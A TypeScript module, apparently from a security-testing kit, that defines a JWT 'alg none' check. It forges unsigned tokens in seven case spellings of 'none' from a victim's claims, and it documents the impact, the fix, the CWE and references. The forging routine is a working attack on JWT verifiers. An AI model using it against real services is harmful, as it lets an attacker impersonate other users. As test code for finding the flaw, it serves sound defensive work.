import { assemble, readToken } from '../../kit/forge-token.ts'
import { tokenAttack } from '../../kit/token-attack.ts'

export default tokenAttack({
  id: 'token/alg-none',
  rows: ['token.alg-none.lower', 'token.alg-none.mixed-case', 'token.alg-none.upper', 'token.alg-none.odd-case'],
  title: 'An unsigned token that says so: algorithm none in seven spellings, no signature, another user’s claims',
  requirement: 'RFC 8725 section 3.1: only algorithms chosen by the verifier are accepted, never what the token names',
  impact: 'Anyone becomes any user: the attacker writes the claims himself.',
  remedy: "Pass the list of algorithms to the verifier: jwt.verify(token, secret, { algorithms: ['HS256'] }).",
  severity: 'critical',
  cwe: ['CWE-347'],
  references: ['RFC 8725 section 3.1', 'ASVS V9.1.2', 'WSTG-SESS-10', 'CVE-2015-2951'],
  provenBy: 'alg-none',
  forge({ victim }) {
    const { header, payload } = readToken(victim.token)
    return ['none', 'None', 'NONE', 'nOnE', 'NonE', 'nONE', 'noNe'].map((alg) => ({
      name: `alg "${alg}", empty signature`,
      token: assemble({ ...header, alg }, payload, ''),
    }))
  },
})
